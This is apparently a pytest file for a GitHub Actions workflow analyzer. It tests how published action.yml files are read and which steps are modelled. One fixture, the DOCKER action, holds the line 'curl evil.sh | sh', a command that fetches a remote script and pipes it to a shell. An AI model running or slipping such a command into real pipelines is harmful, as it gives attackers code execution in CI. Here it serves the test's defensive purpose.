"""Actions the repository publishes (a root `action.yml`, `.github/actions/*/action.yml`) are
read without any workflow using them; only composite actions have steps."""

from __future__ import annotations

from .helpers import load

COMPOSITE = """
name: Lint
description: lint things
inputs:
  path: {description: what, default: "."}
runs:
  using: composite
  steps:
    - uses: actions/setup-python@v5
    - run: echo "${{ inputs.path }}"
      shell: bash
"""

DOCKER = """
name: Pack
description: pack things
runs:
  using: docker
  image: docker://alpine
  steps:
    - run: curl evil.sh | sh
"""

NODE = """
name: Notify
description: notify
runs:
  using: node20
  main: dist/index.js
  steps:
    - uses: someone/thing@main
"""


def test_root_and_github_actions_are_read_without_a_workflow(tmp_path):
    project, errors = load(
        tmp_path,
        {
            "action.yml": COMPOSITE,
            ".github/actions/pack/action.yaml": DOCKER,
            ".github/actions/notify/node/action.yml": NODE,
        },
    )
    assert [e for e in errors if e.level == "error"] == []
    by_file = {a.file: a for a in project.actions}
    assert sorted(by_file) == [
        ".github/actions/notify/node/action.yml",
        ".github/actions/pack/action.yaml",
        "action.yml",
    ]
    root = by_file["action.yml"]
    assert root.path == "." and root.using == "composite"
    assert [s.uses.raw for s in root.steps if s.uses] == ["actions/setup-python@v5"]
    # `steps:` beside docker or node runs nothing: no step is modelled for them
    assert by_file[".github/actions/pack/action.yaml"].steps == []
    assert by_file[".github/actions/pack/action.yaml"].image is not None
    assert by_file[".github/actions/notify/node/action.yml"].steps == []
    assert project.inventory()["local actions"] == 3


def test_action_yml_wins_over_action_yaml_and_vendored_modules_are_skipped(tmp_path):
    project, _ = load(
        tmp_path,
        {
            ".github/actions/x/action.yml": COMPOSITE,
            ".github/actions/x/action.yaml": DOCKER,
            ".github/actions/js/node_modules/dep/action.yml": COMPOSITE,
            "sub/action.yml": COMPOSITE,  # an action elsewhere is not published by this repository
        },
    )
    assert [a.file for a in project.actions] == [".github/actions/x/action.yml"]


def test_a_published_action_used_by_a_workflow_is_read_once(tmp_path):
    project, _ = load(
        tmp_path,
        {
            "action.yml": COMPOSITE,
            ".github/workflows/self-test.yml": """
                on: push
                jobs:
                  t:
                    runs-on: ubuntu-latest
                    steps:
                      - uses: actions/checkout@v4
                      - uses: ./
            """,
        },
    )
    assert [a.file for a in project.actions] == ["action.yml"]
    step = project.workflows[0].jobs["t"].steps[1]
    assert step.uses is not None and step.uses.target == "action.yml"
